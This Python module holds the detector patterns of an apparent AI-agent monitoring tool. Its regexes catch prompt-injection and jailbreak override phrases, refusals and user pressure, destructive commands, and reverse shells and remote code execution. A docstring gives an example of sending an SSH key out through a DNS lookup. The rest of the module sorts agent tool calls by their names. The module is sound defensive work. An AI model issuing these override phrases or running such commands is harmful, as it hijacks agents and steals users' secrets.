"""The words and patterns the built-in detectors look for.

Kept in one place so a reviewer can read (and a team can audit) exactly what each
signal keys on. Everything is matched case-insensitively on plain text.
"""

from __future__ import annotations

import re
from functools import lru_cache

_I = re.IGNORECASE

# --- override phrasing (the provenance view's cues build on it: incident_lab.provenance.cues)
INJ_OVERRIDE = re.compile(
    r"(?:\b|_)(ignore|disregard|forget|override|bypass|abandon|discard)\b[^.\n]{0,40}?"
    r"\b(previous|prior|above|earlier|preceding|original|all|any|your|the|system)\b[^.\n]{0,30}?"
    r"\b(instructions?|directions?|rules?|guidelines?|prompts?|constraints?|polic(y|ies)|tasks?)\b"
    r"|\bnew (instructions?|task|objective|directive|priority)\s*[:\-]"
    r"|\b(you are now|from now on,? you|you must now|you will now|your (new|real|actual) (task|goal|job|role|instructions?))\b"
    r"|\b(system|admin|administrator|developer|security)\s*(override|message|instruction|notice|update)\s*[:\]]"
    r"|\[/?(system|inst|assistant)\]|<\|?(im_start|system|endoftext)\|?>|</?(system|instructions?)>",
    _I,
)

# --- adversarial instructions typed by the user (direct injection / jailbreak) -----
DIRECT_OVERRIDE = re.compile(
    INJ_OVERRIDE.pattern
    + r"|\b(developer|dan|god|jailbreak|unrestricted|unfiltered) mode\b|\bdo anything now\b"
    r"|\b(reveal|print|show|repeat|output|dump)\b[^.\n]{0,30}?\b(your|the)\b[^.\n]{0,20}?"
    r"\b(system prompt|instructions|initial prompt|hidden prompt|configuration)\b"
    r"|\bpretend (you|that you) (are|have) no (rules|restrictions|filters|guidelines)\b",
    _I,
)

# --- the assistant's stance -------------------------------------------------------
REFUSAL = re.compile(
    r"\b(i|we)(?: (?:still|really|just|simply|truly|unfortunately|honestly|definitely|afraid i))?"
    r"(?: (can(no|')t|cannot|won'?t|will not|am not able to|am unable to|must decline|"
    r"have to decline|am not allowed to|am not permitted to)"
    r"|'m (not able to|unable to|not allowed to|not permitted to))\b"
    r"|\bi'?m sorry,? but\b|\b(not (allowed|permitted)|against (our|my|the) (policy|policies|rules|guidelines))\b"
    r"|\b(doesn'?t|does not|don'?t|do not) (allow|permit) me\b"
    r"|\bunable to (help|assist|process|do that|comply)\b|\bthat'?s not something i can\b|\bi must refuse\b",
    _I,
)
AFFIRMATIVE = re.compile(
    r"^\s*(sure|okay|ok|fine|alright|all right|certainly|of course|understood|done|great)\b"
    r"|\b(here (is|are|'s)|i'?ve (processed|issued|sent|done|made|applied|approved|completed|gone ahead)|"
    r"i (have|will|'ll) (go ahead|make an exception|process|issue|approve|do it)|as an exception|"
    r"just this once|you win|step 1\b|happy to help with that)\b",
    _I,
)
PRESSURE = re.compile(
    r"\b(please|pls|i beg|begging|urgent|asap|right now|immediately|my (manager|boss|lawyer)|"
    r"i'?ll (sue|complain|cancel|report|leave)|just this once|exception|you (did|have done) it before|"
    r"other agents?|i insist|come on|last chance|i'?m (a|the) (developer|admin|administrator|owner|ceo)|"
    r"hypothetically|for a (story|novel|movie|game)|pretend|role-?play|seriously|why not|it'?s fine|"
    r"nobody will know|i promise|i already told you|again)\b",
    _I,
)

# --- errors that mean "that tool does not exist" ------------------------------------
UNKNOWN_TOOL_ERROR = re.compile(
    r"\b(unknown|unrecognized|unrecognised|undefined|unsupported|invalid|no such|nonexistent|non-existent)\s+"
    r"(tool|function|action|command name|method|plugin)\b"
    r"|\b(tool|function|action|plugin)\b[^\n]{0,60}?\b(not found|does not exist|doesn'?t exist|is not "
    r"(available|defined|registered|offered|supported)|not registered|not available)\b",
    _I,
)

# --- what a tool does, from its name -------------------------------------------------
TOOL_CATEGORIES: dict[str, tuple[str, ...]] = {
    "email": ("email", "mail", "smtp", "gmail", "outlook", "reply", "forward"),
    "message": ("slack", "sms", "message", "chat", "teams", "notify", "tweet", "dm", "whatsapp"),
    "payment": (
        "transfer",
        "payment",
        "pay",
        "refund",
        "wire",
        "charge",
        "payout",
        "withdraw",
        "purchase",
        "buy",
    ),
    "delete": ("delete", "remove", "drop", "destroy", "purge", "wipe", "erase"),
    "permission": ("grant", "permission", "role", "share", "invite", "acl", "access"),
    "exec": (
        "exec",
        "shell",
        "bash",
        "terminal",
        "command",
        "execute",
        "run",
        "python",
        "sql",
        "eval",
    ),
    "http_write": (
        "post",
        "webhook",
        "upload",
        "submit",
        "publish",
        "fill",
        "form",
        "signup",
        "subscribe",
    ),
    "file_write": ("write", "save", "put", "commit", "push"),
}
#: Verbs in a user's request that authorise each category.
ACTION_VERBS: dict[str, tuple[str, ...]] = {
    "email": ("email", "e-mail", "mail", "send", "reply", "forward", "write to", "respond", "cc"),
    "message": (
        "message",
        "slack",
        "text",
        "post",
        "notify",
        "tell",
        "ping",
        "dm",
        "send",
        "tweet",
    ),
    "payment": (
        "pay",
        "transfer",
        "refund",
        "wire",
        "send money",
        "charge",
        "reimburse",
        "buy",
        "purchase",
        "money back",
    ),
    "delete": (
        "delete",
        "remove",
        "clean",
        "clear",
        "drop",
        "purge",
        "tidy",
        "get rid",
        "wipe",
        "archive",
    ),
    "permission": ("share", "grant", "give access", "invite", "add", "permission", "access"),
    "exec": (
        "run",
        "execute",
        "test",
        "build",
        "install",
        "fix",
        "deploy",
        "compile",
        "debug",
        "lint",
        "check",
        "query",
        "script",
    ),
    "http_write": (
        "post",
        "upload",
        "submit",
        "sign up",
        "register",
        "subscribe",
        "publish",
        "fill",
        "book",
        "order",
        "apply",
    ),
    "file_write": (
        "save",
        "write",
        "create",
        "store",
        "export",
        "commit",
        "push",
        "update",
        "edit",
        "fix",
        "change",
    ),
}
#: First words of a tool name that only reads (``get_``, ``search_``...); provenance adds its own.
READ_VERBS = (
    "get",
    "read",
    "search",
    "list",
    "lookup",
    "look",
    "fetch",
    "query",
    "find",
    "view",
    "browse",
    "open",
    "retrieve",
    "check",
    "show",
    "navigate",
    "visit",
    "load",
    "describe",
)

HIGH_IMPACT_COMMAND = re.compile(
    r"\b(git\s+push|push\s+--force|deploy|publish|kubectl\s+(delete|apply|scale)|terraform\s+(apply|destroy)|"
    r"rm\s+-[a-z]*r[a-z]*|git\s+clean\s+-[a-z]*f[a-z]*|git\s+reset\s+--hard|drop\s+(table|database)|truncate\s+table|chmod\s+-r|curl\b[^|\n]{0,300}\|\s{0,4}(ba)?sh|"
    r"shutdown|mkfs|npm\s+publish|pip\s+install\s+https?://)\b",
    _I,
)
DESTRUCTIVE = re.compile(
    r"\brm\s+-[a-z]*r[a-z]*\b|\bdrop\s+(table|database|schema)\b|\btruncate\s+(table\s+)?\w+|"
    r"\bdelete\s+from\s+\w+\s*(;|$)|\bmkfs\b|\bdd\s+if=|\bgit\s+push\s+(-f|--force)\b|"
    r"\bgit\s+clean\s+-[a-z]*f|\bgit\s+reset\s+--hard\b|\bkubectl\s+delete\b|\bterraform\s+destroy\b|\bformat\s+c:|\bwipe\b|\bpurge\b",
    _I,
)

#: Remote code or a remote shell: a download piped to a shell, the environment piped to the
#: network, a reverse shell (``nc -e``, ``bash -i >& /dev/tcp/...``, ``socat ... exec:``).
#: Bounded gaps: linear on a crafted 100 KB command (issue 10).
REMOTE_EXEC = re.compile(
    r"\b(curl|wget)\b[^|;&\n]{0,300}\|\s{0,4}(sudo\s{1,4})?(ba|z|da|k)?sh\b"
    r"|\benv\b[^|\n]{0,300}\|\s{0,4}(curl|nc|ncat|wget)\b"
    r"|\b(nc|ncat|netcat)\b[^|;&\n]{0,100}\s-[ec]\s"
    r"|/dev/(tcp|udp)/|\b(ba|z)?sh\s{1,4}-i\b|\bsocat\b[^\n]{0,200}\bexec:",
    _I,
)

#: A shell command that sends data outside: a secret spliced into a DNS name or URL
#: (``dig $(cat ~/.ssh/id_rsa | base64).x.test``), a file piped or posted to the network,
#: a push to a git remote other than ``origin``/``upstream``. Bounded gaps (linear).
OUTBOUND_COMMAND = re.compile(
    r"\b(dig|nslookup|host|ping|curl|wget|nc|ncat)\b[^\n;&|]{0,200}(\$\(|`)"
    r"|\|\s{0,4}(curl|nc|ncat|netcat|wget)\b"
    r"|\b(curl|wget)\b[^\n|;&]{0,300}\s(-d|--data[\w-]{0,8}|-F|--form|-T|--upload-file|"
    r"--post-(data|file))\b"
    r"|\bgit\s{1,4}push\s{1,4}(-{1,2}[\w-]{1,20}\s{1,4}){0,4}(?!(origin|upstream)\b|-)[\w.:/@~]",
    _I,
)

_STOPWORD_TEXT = """
a about above after again all also am an and any are as at be because been before being
below between both but by can could did do does doing done down during each few for from
further had has have having he her here hers him his how i if in into is it its itself
just let me more most my no nor not now of off on once only or other our ours out over
own please same she should so some such than that the their them then there these they
this those through to too under until up very was we were what when where which while
who whom why will with would you your yours hi hello thanks thank ok okay sure can't
cannot i'm it's i'll i've you're don't get got need want like make made one two also use
using used could would may might must shall good morning evening afternoon hey cheers
appreciate appreciated quick question fine well really just
"""
STOPWORDS = frozenset(_STOPWORD_TEXT.split())
_WORD = re.compile(r"[a-z0-9][a-z0-9_'-]+")


@lru_cache(maxsize=1 << 16)  # words recur across sessions; each is short
def _stem(word: str) -> str:
    for suffix in ("ing", "ed", "es", "s"):
        if len(word) > len(suffix) + 3 and word.endswith(suffix):
            return word[: -len(suffix)]
    return word


def forbidden(category: str, text: str) -> str | None:
    """Return the user's words forbidding ``category`` ("don't send it yet"), or None."""
    pattern = _forbidding(category)
    text = text.replace("\u2019", "'")  # a typographic apostrophe: "Don’t send it yet"
    match = pattern.search(text) if pattern is not None else None
    return match.group(0) if match else None


@lru_cache(maxsize=64)
def _forbidding(category: str) -> re.Pattern[str] | None:
    """The pattern of a prohibition of ``category``'s verbs, built once per category."""
    verbs = "|".join(re.escape(v) for v in ACTION_VERBS.get(category, ()))
    if not verbs:
        return None
    return re.compile(
        rf"\b(don'?t|do not|never|no need to|without|not to|shouldn'?t|must not)\s+(\w+\s+){{0,2}}?({verbs})\w*",
        _I,
    )


def content_words(text: str) -> set[str]:
    """Return the stemmed content words of ``text`` (lower-case, no stopwords, 3+ letters)."""
    words = set()
    for w in set(_WORD.findall(text.lower().replace("_", " "))):  # each distinct word once
        w = w.strip("'-")
        if len(w) >= 3 and w not in STOPWORDS:
            words.add(_stem(w))
    return words


#: The arguments a handoff takes, when any: why the conversation is passed on, and what to.
_HANDOFF_KEYS = frozenset(
    [
        "reason",
        "message",
        "input",
        "context",
        "summary",
        "request",
        "note",
        "notes",
        "task",
        "instructions",
        "question",
        "topic",
    ]
)


#: Where a camel-case name changes word: a lower-case letter or digit before a capital
#: ("get|Balance", "CarePlan|Update") and the last capital of an acronym before a word
#: ("HTTP|Post", "getHTTP|Response"). Fixed-width lookarounds only: linear on any name.
_CAMEL = re.compile(r"(?<=[a-z0-9])(?=[A-Z])|(?<=[A-Z])(?=[A-Z][a-z])")
_NOT_NAME_CHARS = re.compile(r"[^a-z0-9]+")


@lru_cache(maxsize=4096)
def name_words(name: str) -> tuple[str, ...]:
    """The lower-case words of a tool's (or an argument's) name in any of its spellings:
    ``send_money``, ``sendMoney``, ``SendMoney``, ``send-money``, ``bank.send_money`` and
    "Send Money" all end in ``("send", "money")``; ``getHTTPResponse`` is ``("get", "http",
    "response")``. The one step from a name to its words wherever a name is read for what
    the tool does (its kind, its verb, its objects)."""
    return tuple(w for w in _NOT_NAME_CHARS.split(_CAMEL.sub(" ", name).lower()) if w)


def is_handoff(name: str, arguments: dict[str, object] | None) -> bool:
    """True for an agent handoff: ``transfer_to_<agent>`` / ``transfer_back_to_<agent>``.

    The OpenAI Agents SDK names its handoff tools so, as LangGraph's swarm and supervisor
    do; handing the conversation to another agent moves no money. Such a handoff takes
    no arguments, or only a reason or message for the next agent: any other argument
    (an amount, an account, ``usd``, ``dest``, ``card_number`` ...) leaves the call a payment.
    """
    tokens = list(name_words(name))
    if tokens[:2] != ["transfer", "to"] and tokens[:3] != ["transfer", "back", "to"]:
        return False
    money = not _MONEY_TARGETS.isdisjoint(tokens)
    if money and (tokens[-1] not in _PARTY_WORDS or not _CRYPTO_TARGETS.isdisjoint(tokens)):
        return False  # transferToExternalWallet moves money (rev-camel K3)
    # transfer_to_account_team hands over a conversation (rev-last F2) whatever its message
    # says: the agent it hands to is judged by its own calls (reviews rev-m2 H1, rev-m3 H3/H4:
    # no reading of the message told a money order from a customer's report of a charge).
    return all(str(key).lower().strip("_") in _HANDOFF_KEYS for key in arguments or {})


#: Where a transfer sends money, not a conversation: ``transfer_to_<these>`` is no hand-off.
_MONEY_TARGETS = frozenset(
    ["wallet", "wallets", "account", "accounts", "savings", "checking", "bank", "banks", "card",
     "cards", "iban", "paypal", "venmo", "zelle", "crypto", "bitcoin", "btc", "eth", "exchange",
     "broker", "brokerage", "fund", "funds", "money", "vault", "ira", "deposit"]
)  # fmt: skip
#: Who a hand-off's name ends with: a party, so ``transfer_to_account_team`` and
#: ``transferToCardServices`` hand the conversation over (rev-last F2).
_PARTY_WORDS = frozenset(
    ["agent", "agents", "team", "teams", "desk", "department", "dept", "services", "service",
     "specialist", "specialists", "support", "rep", "representative", "human", "manager",
     "supervisor", "expert", "bot", "assistant", "triage", "staff", "operator"]
)  # fmt: skip
#: Money words that are never a party's name (a wallet desk still moves coins).
_CRYPTO_TARGETS = frozenset(["wallet", "wallets", "crypto", "bitcoin", "btc", "eth"])
#: What a "fill" that is no web write fills: a container (BFCL's ``fillFuelTank``).
_CONTAINER_WORDS = frozenset(
    ["tank", "tanks", "fuel", "gas", "petrol", "bottle", "bottles", "cup", "cups", "glass",
     "jug", "kettle", "bucket"]
)  # fmt: skip


def _fills_a_form(words: list[str]) -> bool:
    """True when a tool named by "fill" writes to the web: any fill (``puppeteer_fill``,
    ``fill_text``, ``fill_form``) but one whose name names a container it fills
    (:data:`_CONTAINER_WORDS`: ``fillFuelTank``, ``fill_water_bottle``). Fail closed: a list
    of form words missed the browser tools' own names (rev-camel K2)."""
    return _CONTAINER_WORDS.isdisjoint(words)


#: Services and channels a tool name may open with before its verb (``slack_list_channels``,
#: ``gmail_search``, ``mcp__outlook__get_mail``): names, not verbs, so the verb after them says
#: what the tool does. ``mcp`` only before one of them (``mcp_get_api_key`` is no channel).
_CHANNEL_WORDS = frozenset(
    ["email", "mail", "gmail", "outlook", "smtp", "slack", "sms", "message", "messages", "chat",
     "teams", "whatsapp", "dm"]
)  # fmt: skip
#: What a channel read may name after its verb: the channel's own records.
_CHANNEL_OBJECTS = frozenset(
    ["message", "messages", "mail", "mails", "email", "emails", "chat", "chats"]
)
#: Words after the read verb that make the name more than a read: a joined act (``and``,
#: ``then``), any act verb or sink word (``send``, ``text``, ``dm``, ``trash``), a secret
#: (``slack_get_token`` stays the credential read it was). Reviews rev-chan30 B1/B2.
_NOT_ONLY_A_READ = (
    frozenset(w for verbs in ACTION_VERBS.values() for w in verbs if " " not in w)
    | frozenset(w for keys in TOOL_CATEGORIES.values() for w in keys)
    | frozenset(
        ["and", "or", "then", "plus", "also", "after", "before", "trash", "archive", "move",
         "update", "create", "broadcast", "deliver", "dispatch", "transmit", "set", "add", "mark",
         "key", "keys", "token", "tokens", "secret", "secrets", "password", "passwords",
         "credential", "credentials", "oauth", "apikey", "auth"]
    )
) - _CHANNEL_OBJECTS  # fmt: skip


def _channel_read(tokens: list[str]) -> bool:
    """True for a name whose channel words lead to a read verb and that names nothing but
    the read after it: ``slack_list_channels``, ``gmail_search``, ``mcp__slack__slack_get_users``,
    ``mcp__gmail__list_messages`` read; ``slack_post_message``, ``gmail_search_and_send``,
    ``message_read_receipt_send``, ``slack_get_token`` do not (the official Slack MCP server's
    reads were ``message`` sends, so "Summarise #general" made listing the channels drift)."""
    head = 1 if tokens[:1] == ["mcp"] and tokens[1:2] and tokens[1] in _CHANNEL_WORDS else 0
    start = head
    while head < len(tokens) and tokens[head] in _CHANNEL_WORDS:
        head += 1
    return (
        start < head < len(tokens)
        and tokens[head] in READ_VERBS
        and _NOT_ONLY_A_READ.isdisjoint(tokens[head + 1 :])
    )


#: What an MCP tool of a channel's server may be named of when it only reads: the channel's
#: records and the read verbs (korotovsky's slack-mcp-server: ``channels_list``,
#: ``conversations_history``, ``conversations_replies``, ``conversations_search_messages``).
#: A known shape, not "no act word": a send may be named by any verb (review rev-chan30b).
_CHANNEL_READ_WORDS = frozenset(
    ["channels", "channel", "conversations", "conversation", "history", "replies", "threads",
     "thread", "users", "user", "members", "member", "info", "messages", "mails", "emails",
     "labels", "folders", "attachments", "attachment", "unreads", "unread", "profile",
     "profiles", "list", "get", "search", "read", "fetch", "lookup", "find", "view", "show"]
)  # fmt: skip


def _channel_server_read(tokens: list[str]) -> bool:
    """True for an MCP tool of a channel's server whose own name is made only of the channel's
    records and read verbs, with a read verb or a conversation's history, replies or info among them
    (``mcp__slack__conversations_history``, ``mcp__slack__channels_list``): Claude Code's
    names for a Slack server's reads were ``message`` sends."""
    if len(tokens) < 3 or tokens[0] != "mcp" or tokens[1] not in _CHANNEL_WORDS:
        return False
    own = tokens[2:]
    if not set(own) <= _CHANNEL_READ_WORDS:
        return False
    # a history, replies or info read only after what it is of (``conversations_replies``);
    # alone or after a thread or messages it may post (Graph's ``.../messages/{id}/replies``:
    # review rev-chan30c)
    of_a_record = any(
        t in ("history", "replies", "info") and k and own[k - 1] in _HISTORY_OWNERS
        for k, t in enumerate(own)
    )
    return of_a_record or any(t in READ_VERBS for t in own)


_HISTORY_OWNERS = frozenset(
    ["conversations", "conversation", "channels", "channel", "users", "user"]
)


def tool_category(
    name: str, arguments: dict[str, object] | None = None, *, handoffs: bool = True
) -> str:
    """Classify a tool call by what it does: a sink category, ``"read"`` or ``"other"``.

    An HTTP tool called with ``method: GET`` reads; with any other method it writes.
    An agent handoff (:func:`is_handoff`) is ``"other"``; ``handoffs=False`` leaves that
    test to a caller that sees more of the arguments than it passes here.
    """
    tokens = list(name_words(name))
    args = arguments or {}
    method = str(args.get("method", "")).upper()
    if any(t in ("http", "request", "fetch", "curl", "api") for t in tokens) and method:
        return "read" if method in ("GET", "HEAD") else "http_write"
    if tokens and tokens[0] in READ_VERBS:
        return "read"
    if _channel_read(tokens) or _channel_server_read(tokens):
        return "read"
    if handoffs and is_handoff(name, args):
        return "other"
    for k, token in enumerate(tokens):  # the verb usually comes first: delete_email deletes
        if k and tokens[k - 1] == "per":
            continue  # a unit ("dividend_per_share"), not what the tool does
        if token == "fill" and not _fills_a_form(tokens):
            continue  # fillFuelTank fills a tank, not a web form
        for category, keys in TOOL_CATEGORIES.items():
            if token in keys:
                return category
    return "other"
